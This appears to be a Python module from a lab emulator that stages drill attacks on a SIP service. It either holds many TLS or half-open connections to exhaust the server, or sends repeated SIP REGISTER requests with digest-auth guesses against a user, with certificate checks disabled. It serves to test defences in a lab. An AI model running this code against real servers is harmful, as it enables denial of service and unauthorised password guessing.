"""An attacker for drills: `python -m endpoints_emu.attacker FILE` in a node's namespace; FILE holds an
`uclab.plan.schema.attacks.Attack`.

It prints `stands` when the attack is at its height for the first time, and goes on until it is ended.
"""

from __future__ import annotations

import asyncio
import json
import secrets
import ssl
import sys
from contextlib import suppress
from pathlib import Path

from endpoints_emu.load.digest import NoAnswer, choose, credentials
from uclab.plan.schema.attacks import Attack
from uclab.plan.schema.codec import from_data

PATIENCE_S = 3.0
"""How long an attempt may take."""
PAUSE_S = 1.0
"""Until a connection that was refused or closed is opened again."""
GUESSES_SEEN = 20
"""An attack by guesses stands when so many were answered or refused."""


class Attacker:
    """Carries one attack out."""

    def __init__(self, attack: Attack) -> None:
        self._attack = attack
        self._tls = ssl.create_default_context()
        self._tls.check_hostname = False  # it does not care whom it attacks
        self._tls.verify_mode = ssl.CERT_NONE
        self._tried = 0

    async def run(self) -> None:
        """Attack until cancelled."""
        if self._attack.kind == "guesses":
            await self._guess()
        else:
            await asyncio.gather(*(self._hold() for _ in range(self._attack.count)))

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        context = None if self._attack.kind == "half-open" else self._tls
        async with asyncio.timeout(PATIENCE_S):
            return await asyncio.open_connection(
                self._attack.target_address,
                self._attack.target_port,
                ssl=context,
                server_hostname=self._attack.host_name if context else None,
            )

    async def _hold(self) -> None:
        """Keep one connection open, without a word."""
        while True:
            with suppress(OSError, TimeoutError):
                reader, writer = await self._connect()
                self._note(self._attack.count)
                with suppress(OSError):
                    while await reader.read(4096):
                        pass
                writer.close()
            self._note(self._attack.count)
            await asyncio.sleep(PAUSE_S)

    async def _guess(self) -> None:
        """Try one password after the other, over as few connections as possible."""
        left = self._attack.count
        while left:
            with suppress(OSError, TimeoutError, asyncio.IncompleteReadError, NoAnswer, ValueError):
                reader, writer = await self._connect()
                while left:
                    left -= 1
                    self._note(GUESSES_SEEN)
                    async with asyncio.timeout(PATIENCE_S):
                        await self._one_guess(reader, writer)
            self._note(GUESSES_SEEN)
        await asyncio.Event().wait()

    async def _one_guess(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        call_id = secrets.token_hex(8)
        challenge = await self._register(reader, writer, call_id, 1, None)
        offered = [
            line.partition(":")[2].strip() for line in challenge if line.lower().startswith("www-auth")
        ]
        uri = f"sip:{self._attack.domain}"
        guess = credentials(
            choose(offered), self._attack.user, secrets.token_hex(4), "REGISTER", uri, secrets.token_hex(4)
        )
        await self._register(reader, writer, call_id, 2, guess)

    async def _register(
        self,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        call_id: str,
        number: int,
        authorization: str | None,
    ) -> list[str]:
        """Send REGISTER; the lines of what is answered."""
        attack, (own, port) = self._attack, writer.get_extra_info("sockname")[:2]
        aor = f"sip:{attack.user}@{attack.domain}"
        lines = [
            f"REGISTER sip:{attack.domain} SIP/2.0",
            f"Via: SIP/2.0/TLS {own}:{port};branch=z9hG4bK{secrets.token_hex(8)};rport",
            f"From: <{aor}>;tag={call_id}",
            f"To: <{aor}>",
            f"Call-ID: {call_id}",
            f"CSeq: {number} REGISTER",
            f"Contact: <sip:{attack.user}@{own}:{port};transport=tls>",
            "Max-Forwards: 70",
            *([f"Authorization: {authorization}"] if authorization else []),
            "Content-Length: 0",
        ]
        writer.write(("\r\n".join(lines) + "\r\n\r\n").encode())
        return (await reader.readuntil(b"\r\n\r\n")).decode(errors="replace").split("\r\n")

    def _note(self, height: int) -> None:
        """One more attempt has come to something."""
        self._tried += 1
        if self._tried == height:
            print("stands", flush=True)


def main() -> None:
    """Entry point."""
    attack = from_data(Attack, json.loads(Path(sys.argv[1]).read_text()))
    asyncio.run(Attacker(attack).run())


if __name__ == "__main__":
    main()
